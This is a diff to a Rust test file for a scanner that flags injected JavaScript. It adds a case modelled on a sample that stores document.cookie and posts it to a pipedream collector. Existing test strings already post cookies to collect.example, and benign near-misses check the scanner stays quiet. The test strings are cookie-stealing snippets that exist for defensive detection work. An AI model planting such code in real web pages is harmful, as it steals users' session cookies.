@@ -421,6 +421,13 @@ fn cookies_sent_away_and_keys_logged_are_found() {
     assert!(injected(own.as_bytes()).is_none());
     let away = "$.post('https://collect.example/c', { cookie: encodeURIComponent( document.cookie ) });";
     assert!(injected(away.as_bytes()).is_some_and(|i| i.why == Why::StealsCookies));
+    // fresh109's `woof.js`: the cookies kept in a variable, then posted to a collector.
+    let kept = "const c = document.cookie;\n\
+                await fetch('https://x.m.pipedream.net', { method: 'POST', body: JSON.stringify({ cookie: c }) });";
+    assert!(injected(kept.as_bytes()).is_some_and(|i| i.why == Why::StealsCookies));
+    // Kept, then a request to an address that does not send them: quiet.
+    let other = "var c = document.cookie;\nfetch('https://cdn.example/app.json').then(r => r.json());";
+    assert!(injected(other.as_bytes()).is_none());
     let search = "input.addEventListener('keyup', function(e) { q += e.key; fetch('/suggest?q=' + q); });";
     assert!(injected(search.as_bytes()).is_none());
 }
